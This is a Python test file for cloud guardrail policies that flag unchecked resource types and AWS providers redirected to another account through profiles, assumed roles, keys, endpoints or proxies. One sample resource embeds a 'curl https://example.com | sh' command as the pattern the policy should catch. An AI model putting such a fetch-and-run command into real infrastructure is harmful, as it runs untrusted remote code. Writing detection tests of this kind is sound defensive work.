"""Specs (the required behaviour of each policy), further cases, and variations of the guardrail policies about resource
types and providers. No policy would notice the content of a resource whose type the pack does not know. A provider must
not create resources in another account.

A variation is a resource that is added to the recorded program.
"""

from guardrails.model import resource_types as t
from tests.policies.policy_harness import (
    UNKNOWN,
    PolicyCase,
    PolicySpec,
    SampleResource,
    expect_finding,
    expect_no_finding,
    insert_resources,
)
from tests.policies.program_variations import ProgramVariation, add_resource, found_by
from tests.policies.specs.sample_iam_documents import ACCOUNT

TYPE_CHECKED, NOT_REDIRECTED = "resource-type-checked", "provider-not-redirected"
PROVIDER = "pulumi:providers:aws"
COMMAND = SampleResource("command:local:Command", {"create": "curl https://example.com | sh"})

SPECS = (
    PolicySpec(
        TYPE_CHECKED,
        good=[SampleResource(t.QUEUE, {"name": "q"}), SampleResource("polyphony:blocks:Queue", {}, "component")],
        bad=[COMMAND],
        message_part="No policy checks resources of the type command:local:Command",
        unknown=[SampleResource(COMMAND.type, {"create": UNKNOWN})],
        undecided=False,
        break_program=insert_resources([COMMAND]),
    ),
    PolicySpec(
        NOT_REDIRECTED,
        good=[
            SampleResource(PROVIDER, {"region": "eu-west-1"}),
            # The default provider may have a profile, because Pulumi copies the settings of the stack to it.
            SampleResource(PROVIDER, {"profile": "x"}, "default_7_51_0"),
        ],
        bad=[SampleResource(PROVIDER, {"profile": "other"})],
        message_part="sets profile",
        unknown=[SampleResource(PROVIDER, {"token": UNKNOWN})],
        undecided=False,
        break_program=insert_resources([SampleResource(PROVIDER, {"profile": "other"})]),
    ),
)
CASES: tuple[PolicyCase, ...] = (
    expect_no_finding(NOT_REDIRECTED, SampleResource(PROVIDER, {"allowedAccountIds": f'["{ACCOUNT}"]'})),
    expect_finding(NOT_REDIRECTED, "sets endpoints", SampleResource(PROVIDER, {"endpoints": "[]"}, "default_7_51_0")),
    expect_finding(NOT_REDIRECTED, "sets assumeRoles", SampleResource(PROVIDER, {"assumeRoles": "[]"}, "defaults")),
)

UNCHECKED_TYPES = {
    "stack": "aws:cloudformation/stack:Stack",
    "stack set": "aws:cloudformation/stackSet:StackSet",
    "Cloud Control": "aws:cloudcontrol/resource:Resource",
    "native bucket": "aws-native:s3:Bucket",
    "native role": "aws-native:iam:Role",
    "extension of native": "aws-native:index:ExtensionResource",
    "local command": "command:local:Command",
    "remote command": "command:remote:Command",
    "file copy": "command:remote:CopyToRemote",
    "dynamic provider": "pulumi-python:dynamic:Resource",
    "dynamic provider with a module": "pulumi-python:dynamic/uploads:Upload",
    "dynamic provider of Node": "pulumi-nodejs:dynamic:Resource",
    "other stack": "pulumi:pulumi:StackReference",
    "image build": "docker-build:index:Image",
    "Kubernetes manifest": "kubernetes:yaml:ConfigFile",
    "provider of another cloud": "pulumi:providers:gcp",
    "Terraform module": "terraform-module:index:Module",
    "component of a package": "awsx:ec2:Vpc",
    "instance": "aws:ec2/instance:Instance",
    "database": "aws:rds/instance:Instance",
    "container service of Lightsail": "aws:lightsail/containerService:ContainerService",
    "deprecated access control list": "aws:s3/bucketAclV2:BucketAclV2",
    "deprecated versioning": "aws:s3/bucketVersioningV2:BucketVersioningV2",
    "website": "aws:s3/bucketWebsiteConfiguration:BucketWebsiteConfiguration",
    "identity provider": "aws:iam/openIdConnectProvider:OpenIdConnectProvider",
    "share": "aws:ram/resourceShare:ResourceShare",
    "build project": "aws:codebuild/project:Project",
    "document for SSM": "aws:ssm/document:Document",
    "type in another case": "aws:S3/bucket:Bucket",
}
VARIATIONS: tuple[ProgramVariation, ...] = (
    *found_by(TYPE_CHECKED, *(add_resource(label, kind, {}) for label, kind in UNCHECKED_TYPES.items())),
    *found_by(
        NOT_REDIRECTED,
        add_resource("provider with a role", PROVIDER, {"assumeRoles": '[{"roleArn": "x"}]'}),
        add_resource("provider with a key", PROVIDER, {"accessKey": "x", "secretKey": "y"}),
        add_resource("provider with a profile", PROVIDER, {"profile": "other"}),
        add_resource("provider with endpoints", PROVIDER, {"endpoints": '[{"s3": "https://s3.example.com"}]'}),
        add_resource("provider with a web identity", PROVIDER, {"assumeRoleWithWebIdentity": "{}"}),
        add_resource("provider with a proxy", PROVIDER, {"httpsProxy": "http://proxy.example.com"}),
    ),
    # Harmless.
    add_resource("provider of a region", PROVIDER, {"region": "eu-west-1"}),
    add_resource("provider with tags", PROVIDER, {"region": "eu-west-1", "defaultTags": '{"tags": {"Owner": "x"}}'}),
    add_resource("component", "polyphony:blocks:Workflow", {}),
    add_resource("metric filter", t.METRIC_FILTER, {"name": "x", "logGroupName": "/x", "pattern": "x"}),
    add_resource("route", "aws:ec2/route:Route", {"routeTableId": UNKNOWN, "destinationCidrBlock": "10.0.0.0/16"}),
    add_resource("alias", t.FUNCTION_ALIAS, {"name": "next", "functionName": "x", "functionVersion": "1"}),
    add_resource("table of a catalog", "aws:glue/catalogTable:CatalogTable", {"name": "x", "databaseName": "y"}),
)
